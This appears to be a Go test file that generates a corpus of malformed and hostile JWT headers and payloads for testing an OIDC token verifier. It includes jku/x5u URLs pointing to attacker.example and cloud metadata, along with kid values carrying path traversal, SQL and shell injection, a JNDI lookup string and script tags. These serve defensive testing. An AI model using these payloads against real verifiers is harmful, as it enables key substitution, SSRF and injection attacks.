package oidctest

import (
	"encoding/base64"
	"fmt"
	"strings"
)

// headers try to have the token choose its own key or rules. All are signed with the
// right key, so that only the header can be why they are refused.
func (c *corpus) headers() {
	k := Public("mine", "ES256", c.keys.OtherEC.Public())
	jwk, err := k.MarshalJSON()
	if err != nil {
		c.t.Fatal(err)
	}
	urls := []string{
		c.p.URL + "/keys", "https://attacker.example/keys", "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd", "data:application/json,{}",
		"ftp://attacker.example", "//attacker.example", "gopher://127.0.0.1:25", "jar:http://attacker.example!/", "",
	}
	for _, name := range []string{"jku", "x5u"} {
		for _, url := range urls {
			c.header(fmt.Sprintf("header: %s %q", name, url), JSON(c.t, M{"alg": "RS256", "kid": "rsa", "typ": "at+jwt", name: url}))
		}
	}
	certificate := base64.StdEncoding.EncodeToString([]byte("no certificate"))
	for name, values := range orderedBy[[]string](
		"jwk", []string{string(jwk), `{}`, `null`, `"x"`, `[]`},
		"x5c", []string{`["` + certificate + `"]`, `[]`, `null`, `"` + certificate + `"`, `[1]`},
		"jku", []string{`null`, `1`, `[]`, `{}`}, "x5u", []string{`null`, `1`, `[]`, `{}`},
		"crit", []string{`["exp"]`, `["b64"]`, `[]`, `null`, `"exp"`, `["x"]`, `["alg"]`, `[1]`, `{}`},
		"b64", []string{`false`, `true`, `null`, `"false"`},
		"zip", []string{`"DEF"`, `"GZ"`, `""`, `null`, `1`},
		"enc", []string{`"A256GCM"`, `""`, `null`, `{}`},
	) {
		for _, v := range values {
			c.header("header: "+name+" "+strings.ReplaceAll(v, string(jwk), "with a key"), `{"alg":"RS256","kid":"rsa","typ":"at+jwt","`+name+`":`+v+`}`)
		}
	}
	// What an attacker would really send: the own key, and a signature by it.
	for name, member := range ordered("jwk", `"jwk":`+string(jwk), "jku", `"jku":"https://attacker.example/keys"`, "x5c", `"x5c":["`+certificate+`"]`) {
		token := Sign(c.t, "ES256", "mine", "at+jwt", c.keys.OtherEC, c.p.Claims(nil))
		parts := strings.Split(token, ".")
		c.add("header: signed by a stranger with "+name, B64(`{"alg":"ES256","kid":"mine","typ":"at+jwt",`+member+`}`)+"."+parts[1]+"."+parts[2])
	}
}

// keyNames are names of keys that do not exist, however much they look like one that
// does. All are signed with the key called rsa.
func (c *corpus) keyNames() {
	for _, kid := range []string{
		"RSA", "Rsa", " rsa", "rsa ", "rsa\n", "rsa\x00", "rsa.", "./rsa", "rsa/../rsa", "r%73a", "rs\u0430", "\u200brsa", "rsa,ec", "rsa|ec", "weak", "enc",
		"../../../../dev/null", "/dev/null", "/etc/passwd", "..\\..\\windows\\win.ini", "file:///dev/null", "%2e%2e%2f",
		"x' UNION SELECT 'key", "' OR '1'='1", "1; DROP TABLE keys", `" OR ""="`, "x') --", "$(id)", "`id`", "|id", ";id", "${jndi:ldap://attacker.example/a}", "{{7*7}}",
		"*)(uid=*", "<script>", "*", "%", "_", "?", "0", "-1", "null", "undefined", "[object Object]", "__proto__", "constructor", "true",
		c.p.URL + "/keys", "https://attacker.example/keys", "http://169.254.169.254/", Padding(255), Padding(256), Padding(5000),
	} {
		c.header(fmt.Sprintf("kid: %.60q of %d bytes", kid, len(kid)), JSON(c.t, M{"alg": "RS256", "kid": kid, "typ": "at+jwt"}))
	}
	for _, kid := range []string{`1`, `0`, `-1`, `1e9`, `true`, `null`, `["rsa"]`, `[]`, `{}`, `{"rsa":1}`, `""`} {
		c.header("kid: "+kid+" in JSON", `{"alg":"RS256","kid":`+kid+`,"typ":"at+jwt"}`)
	}
	c.header("kid: none at all", `{"alg":"RS256","typ":"at+jwt"}`)
	c.header("kid: in upper case", `{"alg":"RS256","KID":"rsa","typ":"at+jwt"}`)
}

// types are those of other kinds of tokens, which providers sign with the same keys.
func (c *corpus) types() {
	for _, typ := range []string{
		"logout+jwt", "secevent+jwt", "dpop+jwt", "kb+jwt", "sd-jwt", "dc+sd-jwt", "token-introspection+jwt", "oauth-authz-req+jwt", "entity-statement+jwt", "client-authentication+jwt",
		"JOSE", "JOSE+JSON", "JWE", "JWS", "at", "at+", "at+jwt+x", "at+jwt;x=y", "at-jwt", "at jwt", " at+jwt", "at+jwt ", "text/at+jwt", "application/", "application/application/jwt", "none", Padding(300),
	} {
		c.header(fmt.Sprintf("type: %.40q", typ), JSON(c.t, M{"alg": "RS256", "kid": "rsa", "typ": typ}))
	}
	for _, typ := range []string{`1`, `true`, `null`, `["at+jwt"]`, `{}`} {
		c.header("type: "+typ+" in JSON", `{"alg":"RS256","kid":"rsa","typ":`+typ+`}`)
	}
	for _, claim := range []string{"nonce", "at_hash", "c_hash", "s_hash"} {
		for _, typ := range []string{"JWT", ""} {
			c.add(fmt.Sprintf("type: ID token by its %s, type %q", claim, typ), Sign(c.t, "RS256", "rsa", typ, c.keys.RSA, c.p.Claims(M{claim: "x"})))
			c.tokens[len(c.tokens)-1].Exchange = true
		}
	}
}

// json are headers and payloads that are no JSON, or JSON that parsers read differently.
func (c *corpus) json() {
	for name, change := range orderedBy[func(string) string](
		"nothing but a blank", func(string) string { return " " }, "null", func(string) string { return "null" }, "true", func(string) string { return "true" },
		"a number", func(string) string { return "1" }, "a string", func(string) string { return `"x"` }, "a word", func(string) string { return "x" },
		"an empty list", func(string) string { return "[]" }, "in a list", func(s string) string { return "[" + s + "]" },
		"twice", func(s string) string { return s + s }, "with data after", func(s string) string { return s + "{}" }, "with NUL after", func(s string) string { return s + "\x00" },
		"with a bracket after", func(s string) string { return s + "}" }, "without its end", func(s string) string { return s[:len(s)-1] },
		"with a comma at its end", func(s string) string { return s[:len(s)-1] + ",}" },
		"with a comment", func(s string) string { return s[:len(s)-1] + "/* x */}" },
		"with single quotes", func(s string) string { return strings.ReplaceAll(s, `"`, "'") },
		"without quotes", func(s string) string { return strings.ReplaceAll(s, `"`, "") },
		"with a byte order mark", func(s string) string { return "\ufeff" + s },
		"with NaN", func(s string) string { return s[:len(s)-1] + `,"x":NaN}` },
		"with Infinity", func(s string) string { return s[:len(s)-1] + `,"x":Infinity}` },
		"with a zero before a number", func(s string) string { return s[:len(s)-1] + `,"x":01}` },
		"with a plus before a number", func(s string) string { return s[:len(s)-1] + `,"x":+1}` },
		"with a hexadecimal number", func(s string) string { return s[:len(s)-1] + `,"x":0x1}` },
		"with a bare control character", func(s string) string { return s[:len(s)-1] + ",\"x\":\"\x01\"}" },
		"with a line break in a string", func(s string) string { return s[:len(s)-1] + ",\"x\":\"\n\"}" },
		"with an unknown escape", func(s string) string { return s[:len(s)-1] + `,"x":"\x41"}` },
		"not in UTF-8", func(s string) string { return s[:len(s)-1] + ",\"x\":\"\xff\"}" },
		"with an overlong NUL", func(s string) string { return s[:len(s)-1] + ",\"x\":\"\xc0\x80\"}" },
		"with a bare surrogate", func(s string) string { return s[:len(s)-1] + ",\"x\":\"\xed\xa0\x80\"}" },
		"in UTF-16", func(s string) string { return "\xfe\xff\x00" + strings.Join(strings.Split(s, ""), "\x00") },
		"nested deep", func(s string) string {
			return s[:len(s)-1] + `,"x":` + strings.Repeat("[", 3000) + strings.Repeat("]", 3000) + `}`
		},
		"nested deep and open", func(s string) string { return s[:len(s)-1] + `,"x":` + strings.Repeat("[", 5000) },
		"of deep objects", func(s string) string {
			return s[:len(s)-1] + `,"x":` + strings.Repeat(`{"x":`, 20) + "1" + strings.Repeat("}", 20) + `}`
		},
	) {
		c.header("JSON: header "+name, change(head))
		c.payload("JSON: payload "+name, change(c.good()))
	}
}

// duplicates are names that occur twice, of which parsers take one or the other.
func (c *corpus) duplicates() {
	for _, m := range []string{`"alg":"none"`, `"ALG":"none"`, `"\u0061lg":"none"`, `"kid":"x"`, `"Kid":"x"`, `"typ":"JWT"`, `"Typ":"x"`, `"x":1,"x":2`, `"x":{"y":1,"y":2}`, `"alg":"RS256"`} {
		c.header("duplicate: header with "+m, head[:len(head)-1]+","+m+"}")
		c.header("duplicate: header after "+m, "{"+m+","+head[1:])
	}
	for _, name := range []string{"iss", "sub", "aud", "exp", "nbf", "iat", "jti", "name", "dms_projects"} {
		value := JSON(c.t, c.p.Claims(nil)[name])
		for kind, spelled := range ordered("the same", name, "another case", strings.ToUpper(name[:1])+name[1:], "escaped", fmt.Sprintf(`\u%04x%s`, name[0], name[1:])) {
			c.payload("duplicate: "+name+", "+kind, WithMember(c.t, c.p.Claims(nil), `"`+spelled+`":`+value))
		}
	}
	c.payload("duplicate: inside a claim", WithMember(c.t, c.p.Claims(nil), `"x":{"a":1,"a":2}`))
	c.payload("duplicate: inside a list", WithMember(c.t, c.p.Claims(nil), `"x":[{"a":1,"A":2}]`))
}
